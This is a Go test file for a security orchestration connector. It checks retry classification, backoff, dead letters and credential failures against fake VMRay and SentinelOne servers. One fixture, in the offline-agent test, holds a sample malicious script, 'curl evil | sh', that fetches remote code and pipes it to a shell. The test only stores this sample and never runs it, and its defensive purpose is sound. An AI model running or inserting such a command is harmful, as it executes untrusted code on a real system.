package connector_test

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/soarkit/soarkit/connector"
	"github.com/soarkit/soarkit/connector/connectortest"
	"github.com/soarkit/soarkit/connector/memstore"
	"github.com/soarkit/soarkit/connector/sentineloneconn"
	"github.com/soarkit/soarkit/connector/vmrayconn"
	"github.com/soarkit/soarkit/internal/fakehttp"
	"github.com/soarkit/soarkit/sentinelone"
	"github.com/soarkit/soarkit/sentinelone/sentinelonetest"
	"github.com/soarkit/soarkit/vmray"
	"github.com/soarkit/soarkit/vmray/vmraytest"
)

// statusError carries an HTTP status the way the vendor clients' errors do.
type statusError int

func (e statusError) Error() string   { return fmt.Sprintf("HTTP %d", int(e)) }
func (e statusError) HTTPStatus() int { return int(e) }

type timeoutError struct{}

func (timeoutError) Error() string   { return "i/o timeout" }
func (timeoutError) Timeout() bool   { return true }
func (timeoutError) Temporary() bool { return true }

func TestClassify(t *testing.T) {
	for _, c := range []struct {
		name string
		err  error
		want connector.Class
	}{
		{"plain error", errors.New("connection reset"), connector.Transient},
		{"permanent", connector.Permanent(errors.New("bad file")), connector.PermanentFailure},
		{"404 marked permanent", connector.Permanent(statusError(404)), connector.PermanentFailure},
		{"401 marked permanent by an adapter", connector.Permanent(fmt.Errorf("vmray: %w", statusError(401))), connector.Authorization},
		{"403", statusError(403), connector.Authorization},
		{"Unauthorized helper", connector.Unauthorized(errors.New("token expired")), connector.Authorization},
		{"408", statusError(408), connector.Transient},
		{"429 marked permanent", connector.Permanent(statusError(429)), connector.Transient},
		{"503 marked permanent", connector.Permanent(statusError(503)), connector.Transient},
		{"retry later", connector.RetryLater(errors.New("agent offline"), time.Minute), connector.Transient},
		{"network timeout marked permanent", connector.Permanent(fmt.Errorf("dial: %w", timeoutError{})), connector.Transient},
		{"deadline", fmt.Errorf("lookup: %w", context.DeadlineExceeded), connector.Transient},
		{"panic", &connector.PanicError{Component: "x", Stage: connector.StageLookup, Value: "boom"}, connector.PermanentFailure},
	} {
		if got := connector.Classify(c.err); got != c.want {
			t.Errorf("%s: Classify(%v) = %s, want %s", c.name, c.err, got, c.want)
		}
	}
	if connector.Unauthorized(nil) != nil {
		t.Error("Unauthorized(nil) != nil")
	}
	base := errors.New("401")
	if u := connector.Unauthorized(base); !errors.Is(u, connector.ErrUnauthorized) || !errors.Is(u, base) {
		t.Errorf("Unauthorized does not match both: %v", u)
	}
}

func newClock() *fakehttp.ManualClock {
	return fakehttp.NewManualClock(time.Date(2026, 11, 23, 9, 0, 0, 0, time.UTC))
}

// itemsByState returns every item of the store by state.
func itemsByState(t *testing.T, store connector.Store) map[connector.State][]connector.Item {
	t.Helper()
	out := map[connector.State][]connector.Item{}
	err := store.View(context.Background(), func(tx connector.Tx) error {
		for _, st := range connector.States() {
			for it, err := range tx.Items(st) {
				if err != nil {
					return err
				}
				out[st] = append(out[st], it)
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// vmrayWorld is an EDR source with n files and the VMRay fake as the analyzer.
func vmrayWorld(t *testing.T, n int) (*vmraytest.Server, *connectortest.Source) {
	t.Helper()
	srv := vmraytest.NewServer(t, vmraytest.WithTiming(vmraytest.Timing{QueuedPolls: 1}))
	edr := connectortest.NewSource("edr")
	for i := range n {
		h := edr.AddFile(fmt.Appendf(nil, "MZ outage sample %d", i))
		edr.Add(connector.Evidence{Hashes: connector.Hashes{SHA256: h.SHA256}, Sightings: sighting(fmt.Sprint(i))})
	}
	return srv, edr
}

func vmrayAnalyzer(t *testing.T, c *vmray.Client) connector.Analyzer {
	t.Helper()
	a, err := vmrayconn.New(c, vmrayconn.Options{PollInterval: time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	return a
}

// noClientRetry makes the VMRay client fail at once, so the engine's own backoff is what is tested.
var noClientRetry = vmray.WithRetry(vmray.RetryPolicy{Disabled: true})

// A VMRay outage does not turn the files into dead letters: they wait on a stored backoff, a run before it is due
// does not call VMRay for them, and the first run after the outage, once due, analyses every file.
func TestVMRayOutageThenRecovery(t *testing.T) {
	const n = 6
	srv, edr := vmrayWorld(t, n)
	srv.InjectFault(vmraytest.Fault{Status: http.StatusServiceUnavailable})
	clk := newClock()
	store := memstore.New()
	note := connectortest.NewResponder("note", connector.ScopeSighting)
	cfg := connector.Config{Store: store, Sources: []connector.Source{edr},
		Analyzer: vmrayAnalyzer(t, srv.Client(noClientRetry)), Responders: []connector.Responder{note},
		Retry: connector.Backoff{Initial: 10 * time.Minute, Max: time.Hour}, PollInterval: time.Millisecond,
		Now: clk.Now, Logger: testLogger()}
	p := newPipeline(t, cfg)
	sum, err := p.RunOnce(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if sum.FailureCount() != 0 || sum.Pending != n || sum.Waiting != n || sum.Problem() != "" {
		t.Fatalf("outage run: %d dead letters, %d pending, %d waiting, problem %q; want 0, %d, %d, none",
			sum.FailureCount(), sum.Pending, sum.Waiting, sum.Problem(), n, n)
	}
	for _, it := range itemsByState(t, store)[connector.StateNew] {
		r := it.Retry
		if r == nil || r.Stage != connector.StageLookup || r.Class != connector.Transient || r.Attempts != 1 ||
			!r.Next.After(clk.Now()) || !strings.Contains(r.LastError, "503") {
			t.Fatalf("item %s retry state %+v; want one transient lookup failure due later", it.Key, r)
		}
	}
	// Before the backoff runs out, a run leaves the items alone.
	before := len(srv.Requests())
	if sum, err = p.RunOnce(context.Background()); err != nil || sum.Waiting != n {
		t.Fatalf("early run: %v, waiting %d", err, sum.Waiting)
	}
	if got := len(srv.Requests()); got != before {
		t.Errorf("a run before the items were due made %d VMRay requests", got-before)
	}
	// VMRay is back, the backoff has run out: every file is analysed and acted on.
	srv.ClearFaults()
	clk.Advance(2 * time.Hour)
	sum, err = p.RunOnce(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if sum.Resumed != n || sum.Submitted != n || sum.Pending != 0 || sum.FailureCount() != 0 || len(note.Effects()) != n {
		t.Errorf("recovery run: resumed %d submitted %d pending %d dead letters %d actions %d; want %d, %d, 0, 0, %d",
			sum.Resumed, sum.Submitted, sum.Pending, sum.FailureCount(), len(note.Effects()), n, n, n)
	}
	for _, it := range itemsByState(t, store)[connector.StateDone] {
		if it.Retry != nil {
			t.Errorf("done item %s kept its retry state %+v", it.Key, it.Retry)
		}
	}
}

// A failure that lasts past the stage's horizon makes the item a dead letter, with the reason, across runs.
func TestTransientFailureGivesUpAfterTheHorizon(t *testing.T) {
	srv, edr := vmrayWorld(t, 1)
	srv.InjectFault(vmraytest.Fault{Status: http.StatusBadGateway})
	clk := newClock()
	store := memstore.New()
	p := newPipeline(t, connector.Config{Store: store, Sources: []connector.Source{edr},
		Analyzer: vmrayAnalyzer(t, srv.Client(noClientRetry)),
		Retry:    connector.Backoff{Initial: 2 * time.Hour, Max: 2 * time.Hour},
		Lookup:   connector.StageLimits{Horizon: 5 * time.Hour}, Now: clk.Now, Logger: testLogger()})
	for run := range 3 { // at 0, 2 h and 4 h: within the 5 h horizon
		sum, err := p.RunOnce(context.Background())
		if err != nil {
			t.Fatal(err)
		}
		if sum.FailureCount() != 0 {
			t.Fatalf("run %d: a dead letter %v before the horizon", run, sum.Failures)
		}
		clk.Advance(2 * time.Hour)
	}
	sum, err := p.RunOnce(context.Background())
	if err != nil || sum.Failures[connector.StageLookup] != 1 {
		t.Fatalf("after the horizon: %v, failures %v; want one lookup dead letter", err, sum.Failures)
	}
	failed := itemsByState(t, store)[connector.StateFailed]
	if len(failed) != 1 || !strings.Contains(failed[0].Failure.Reason, "gave up after 4 tries") ||
		!strings.Contains(failed[0].Failure.Reason, "502") {
		t.Errorf("dead letter %+v; want the tries and the last error", failed)
	}
}

// A wrong VMRay key is not an item failure: the analyzer is reported unhealthy, it is not hammered, the items wait
// without using up attempts, and the same items go through once the key is fixed.
func TestWrongVMRayKeyWaitsAndReports(t *testing.T) {
	const n = 10
	srv, edr := vmrayWorld(t, n)
	store := memstore.New()
	cfg := connector.Config{Store: store, Sources: []connector.Source{edr},
		Analyzer: vmrayAnalyzer(t, srv.ClientWithKey("wrong-key", noClientRetry)), PollInterval: time.Millisecond,
		Lookup: connector.StageLimits{Concurrency: 2}, Logger: testLogger()}
	sum, err := newPipeline(t, cfg).RunOnce(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if sum.FailureCount() != 0 || sum.Pending != n || sum.Waiting != n {
		t.Errorf("wrong key: %d dead letters, %d pending, %d waiting; want 0, %d, %d", sum.FailureCount(), sum.Pending,
			sum.Waiting, n, n)
	}
	if st, ok := sum.Components[vmrayconn.DefaultName]; !ok || st.Healthy || st.Kind != connector.KindAnalyzer {
		t.Errorf("analyzer health %+v (%v); want unhealthy", st, ok)
	}
	if p := sum.Problem(); !strings.Contains(p, "analyzer "+vmrayconn.DefaultName+" unauthorized") || !strings.Contains(p, "401") {
		t.Errorf("Problem() = %q; want the unauthorized analyzer", p)
	}
	if got := srv.CountRequests("", ""); got > cfg.Lookup.Concurrency {
		t.Errorf("%d requests with a refused key; want at most one per lookup worker (%d)", got, cfg.Lookup.Concurrency)
	}
	for _, it := range itemsByState(t, store)[connector.StateNew] {
		if r := it.Retry; r == nil || r.Class != connector.Authorization || r.Attempts != 0 {
			t.Errorf("item %s retry %+v; want an authorization wait with no attempt used", it.Key, r)
		}
	}
	cfg.Analyzer = vmrayAnalyzer(t, srv.Client(noClientRetry))
	sum, err = newPipeline(t, cfg).RunOnce(context.Background())
	if err != nil || sum.Submitted != n || sum.Pending != 0 || sum.Problem() != "" {
		t.Errorf("fixed key: %v, submitted %d, pending %d, problem %q; want %d, 0, none", err, sum.Submitted,
			sum.Pending, sum.Problem(), n)
	}
}

// A source whose every collection fails makes the run fail; one unauthorized source is reported by name.
func TestSourceFailuresMakeTheRunFail(t *testing.T) {
	src := connectortest.NewSource("edr")
	src.Faults = &connectortest.Faults{ErrorRate: 1}
	a := connectortest.NewAnalyzer("sandbox")
	sum, err := newPipeline(t, connector.Config{Store: memstore.New(), Sources: []connector.Source{src}, Analyzer: a,
		Retry: connector.Backoff{Attempts: 2, Initial: time.Millisecond}, Logger: testLogger()}).RunOnce(context.Background())
	if err != nil || sum.SourceErrors != 2 || !strings.Contains(sum.Problem(), "every source failed") {
		t.Errorf("%v, %d source errors, problem %q; want 2 and every source failed", err, sum.SourceErrors, sum.Problem())
	}
	refusing := refusingSource{"tap"}
	sum, err = newPipeline(t, connector.Config{Store: memstore.New(), Sources: []connector.Source{refusing}, Analyzer: a,
		Logger: testLogger()}).RunOnce(context.Background())
	if err != nil || sum.SourceErrors != 1 || !strings.Contains(sum.Problem(), "source tap unauthorized") {
		t.Errorf("%v, %d source errors, problem %q; want one try and the source named", err, sum.SourceErrors, sum.Problem())
	}
}

type refusingSource struct{ name string }

func (s refusingSource) Name() string { return s.name }
func (s refusingSource) Collect(context.Context, connector.Checkpoint) (connector.Batch, error) {
	return connector.Batch{}, connector.Permanent(statusError(http.StatusUnauthorized))
}

// A file held only by an offline SentinelOne agent waits (RetryLater from Fetch is a transient failure, not a count
// of tries) and is analysed once the agent is back.
func TestOfflineAgentComesBack(t *testing.T) {
	fake := sentinelonetest.NewServer(t)
	c := fake.Client(sentinelone.WithRetry(sentinelone.RetryPolicy{Disabled: true}))
	agent := fake.AddAgent(sentinelone.Agent{ComputerName: "SRV-1", IsActive: false, OSType: sentinelone.OSLinux})
	content := []byte("#!/bin/sh\ncurl evil | sh")
	th := fake.AddThreat(sentinelone.Threat{
		ThreatInfo: sentinelone.ThreatInfo{SHA1: connectortest.HashesOf(content).SHA1, FilePath: sentinelone.FlexString("/tmp/x.sh"),
			ConfidenceLevel: sentinelone.ConfidenceMalicious, ThreatName: "x.sh", FileSize: int64(len(content))},
		AgentRealtimeInfo: sentinelone.AgentRealtimeInfo{AgentID: agent.ID},
	})
	if !fake.SetThreatFile(th.ID, sentinelonetest.File{Content: content}) {
		t.Fatal("SetThreatFile")
	}
	scope, err := sentineloneconn.NewScope(c, "", nil)
	if err != nil {
		t.Fatal(err)
	}
	src, err := sentineloneconn.NewThreatSource(c, sentineloneconn.SourceOptions{Scope: scope})
	if err != nil {
		t.Fatal(err)
	}
	a := connectortest.NewAnalyzer("sandbox")
	a.Default = connector.Malicious
	note := connectortest.NewResponder("note", connector.ScopeSighting)
	clk := newClock()
	store := memstore.New()
	p := newPipeline(t, connector.Config{Store: store, Sources: []connector.Source{src}, Analyzer: a,
		Responders: []connector.Responder{note}, PollInterval: time.Millisecond, Now: clk.Now, Logger: testLogger()})
	for range 3 { // offline for three runs, half an hour apart: no dead letter
		sum, err := p.RunOnce(context.Background())
		if err != nil || sum.FailureCount() != 0 || sum.Pending != 1 || sum.Waiting != 1 {
			t.Fatalf("agent offline: %v, dead letters %d, pending %d, waiting %d; want 0, 1, 1", err,
				sum.FailureCount(), sum.Pending, sum.Waiting)
		}
		clk.Advance(30 * time.Minute)
	}
	it := itemsByState(t, store)[connector.StateNew]
	if len(it) != 1 || it[0].Retry == nil || it[0].Retry.Stage != connector.StageFetch || it[0].Retry.Attempts != 3 ||
		!strings.Contains(it[0].Retry.LastError, "offline") {
		t.Fatalf("waiting item %+v (retry %+v); want three fetch tries, the agent offline", it, it[0].Retry)
	}
	fake.SetAgentActive(agent.ID, true)
	sum, err := p.RunOnce(context.Background())
	if err != nil || sum.Fetched != 1 || sum.Submitted != 1 || sum.Pending != 0 || len(note.Effects()) != 1 {
		t.Errorf("agent back: %v, fetched %d, submitted %d, pending %d, actions %d; want 1, 1, 0, 1", err,
			sum.Fetched, sum.Submitted, sum.Pending, len(note.Effects()))
	}
}

// flakyLookups fails every Lookup with a 503 while down is set.
type flakyLookups struct {
	*connectortest.Analyzer
	mu   sync.Mutex
	down bool
}

func (f *flakyLookups) setDown(v bool) {
	f.mu.Lock()
	f.down = v
	f.mu.Unlock()
}

func (f *flakyLookups) Lookup(ctx context.Context, ev connector.Evidence) (connector.Verdict, bool, error) {
	f.mu.Lock()
	down := f.down
	f.mu.Unlock()
	if down {
		return connector.Verdict{}, false, statusError(http.StatusServiceUnavailable)
	}
	return f.Analyzer.Lookup(ctx, ev)
}

// In daemon mode a later cycle takes up the items whose backoff has run out.
func TestRunTakesUpDueItemsInALaterCycle(t *testing.T) {
	w := newWorld(3, 3)
	a := &flakyLookups{Analyzer: w.analyzer, down: true}
	clk := newClock()
	store := memstore.New()
	cfg := fastConfig(store, a, w.sources(), w.responders())
	cfg.Retry = connector.Backoff{Initial: 10 * time.Minute, Max: time.Hour}
	cfg.Interval, cfg.Now = 5*time.Millisecond, clk.Now
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	done := make(chan connector.Summary)
	go func() {
		sum, _ := newPipeline(t, cfg).Run(ctx)
		done <- sum
	}()
	waitFor := func(what string, cond func(map[connector.State][]connector.Item) bool) {
		t.Helper()
		for range 2000 {
			if cond(itemsByState(t, store)) {
				return
			}
			time.Sleep(5 * time.Millisecond)
		}
		t.Fatalf("never reached: %s; items %v", what, itemsByState(t, store))
	}
	waitFor("every item waiting on a backoff", func(m map[connector.State][]connector.Item) bool {
		n := 0
		for _, it := range m[connector.StateNew] {
			if it.Retry != nil {
				n++
			}
		}
		return n == 3
	})
	a.setDown(false)
	clk.Advance(2 * time.Hour)
	waitFor("every item done", func(m map[connector.State][]connector.Item) bool { return len(m[connector.StateDone]) == 3 })
	cancel()
	if sum := <-done; sum.FailureCount() != 0 {
		t.Errorf("dead letters %v", sum.Failures)
	}
	checkWorld(t, w)
}

// refusingLookups answers every Lookup with 401 while refuse is set.
type refusingLookups struct {
	*connectortest.Analyzer
	mu     sync.Mutex
	refuse bool
	calls  int
}

func (r *refusingLookups) set(v bool) {
	r.mu.Lock()
	r.refuse = v
	r.mu.Unlock()
}

func (r *refusingLookups) Lookup(ctx context.Context, ev connector.Evidence) (connector.Verdict, bool, error) {
	r.mu.Lock()
	refuse := r.refuse
	r.calls++
	r.mu.Unlock()
	if refuse {
		return connector.Verdict{}, false, connector.Permanent(statusError(http.StatusForbidden))
	}
	return r.Analyzer.Lookup(ctx, ev)
}

// healthLog records the health reports of the engine.
type healthLog struct {
	mu      sync.Mutex
	changes []string
}

func (h *healthLog) Add(connector.Counter, int, ...string)                  {}
func (h *healthLog) Latency(connector.Stage, string, string, time.Duration) {}
func (h *healthLog) SourceCollected(string, time.Time)                      {}
func (h *healthLog) ComponentHealth(k connector.ComponentKind, name string, ok bool, _ string) {
	h.mu.Lock()
	h.changes = append(h.changes, fmt.Sprintf("%s %s %v", k, name, ok))
	h.mu.Unlock()
}

func (h *healthLog) list() []string {
	h.mu.Lock()
	defer h.mu.Unlock()
	return append([]string(nil), h.changes...)
}

// In daemon mode a refused component is probed again in the next cycle; once it answers, the waiting items go
// through and the observer hears it is healthy again.
func TestRunRecoversWhenTheKeyIsFixed(t *testing.T) {
	w := newWorld(4, 4)
	a := &refusingLookups{Analyzer: w.analyzer, refuse: true}
	obs := &healthLog{}
	store := memstore.New()
	cfg := fastConfig(store, a, w.sources(), w.responders())
	cfg.Interval, cfg.Observer = 5*time.Millisecond, obs
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	done := make(chan connector.Summary)
	go func() {
		sum, _ := newPipeline(t, cfg).Run(ctx)
		done <- sum
	}()
	analyzerChanges := func() []string {
		var out []string
		for _, c := range obs.list() {
			if strings.HasPrefix(c, "analyzer ") {
				out = append(out, c)
			}
		}
		return out
	}
	for i := 0; len(analyzerChanges()) == 0; i++ {
		if i > 2000 {
			t.Fatal("the refusal was never reported")
		}
		time.Sleep(5 * time.Millisecond)
	}
	a.set(false)
	for i := 0; len(itemsByState(t, store)[connector.StateDone]) != 4; i++ {
		if i > 2000 {
			t.Fatalf("the items never went through: %v", itemsByState(t, store))
		}
		time.Sleep(5 * time.Millisecond)
	}
	cancel()
	sum := <-done
	if got := analyzerChanges(); len(got) != 2 || got[0] != "analyzer sandbox false" || got[1] != "analyzer sandbox true" {
		t.Errorf("health changes %v; want unhealthy then healthy", got)
	}
	if sum.Problem() != "" || sum.FailureCount() != 0 || !sum.Components["sandbox"].Healthy {
		t.Errorf("summary problem %q, dead letters %d, components %+v", sum.Problem(), sum.FailureCount(), sum.Components)
	}
	checkWorld(t, w)
}
